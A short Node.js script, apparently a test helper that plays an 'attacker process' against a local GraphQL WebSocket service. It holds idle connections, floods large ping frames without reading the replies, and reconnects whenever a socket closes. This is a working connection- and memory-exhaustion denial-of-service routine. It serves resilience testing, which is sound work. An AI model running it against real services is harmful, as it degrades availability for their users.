// Attacker process that holds anonymous WebSockets, which are idle or send pings without reading, and replaces closed ones.
import { connect } from 'node:net'

const { port, idle, pinging } = JSON.parse(process.argv[2])
const counts = { upgraded: 0, closed: 0 }
const handshake = [
  'GET /graphql HTTP/1.1',
  'Host: x',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  'Sec-WebSocket-Protocol: graphql-transport-ws',
  '\r\n',
].join('\r\n')
const ping = createFrame(JSON.stringify({ type: 'ping', payload: { text: 'x'.repeat(15_000) } }))
// Delay before a closed socket is replaced.
const pauseMs = 1_000

/** Builds a text frame with a mask of zeros (RFC 6455, section 5.2). */
function createFrame(text) {
  const head = Buffer.from([0x81, 0xfe, 0, 0, 0, 0, 0, 0])
  head.writeUInt16BE(text.length, 2)
  return Buffer.concat([head, Buffer.from(text)])
}

function openSocket(afterUpgrade) {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => {})
  socket.write(handshake)
  socket.once('data', (head) => {
    if (!head.toString('latin1').startsWith('HTTP/1.1 101')) return
    counts.upgraded++
    afterUpgrade(socket)
  })
  socket.once('close', () => {
    counts.closed++
    setTimeout(() => openSocket(afterUpgrade), pauseMs)
  })
}

function sendPings(socket) {
  // Responses remain unread, so the service must buffer or drop them.
  socket.pause()
  const sendPing = () => {
    if (socket.writable) socket.write(ping, () => setImmediate(sendPing))
  }
  sendPing()
}

process.on('message', () => process.send(counts))
for (let at = 0; at < idle; at++) openSocket(() => {})
for (let at = 0; at < pinging; at++) openSocket(sendPings)
process.send('started')
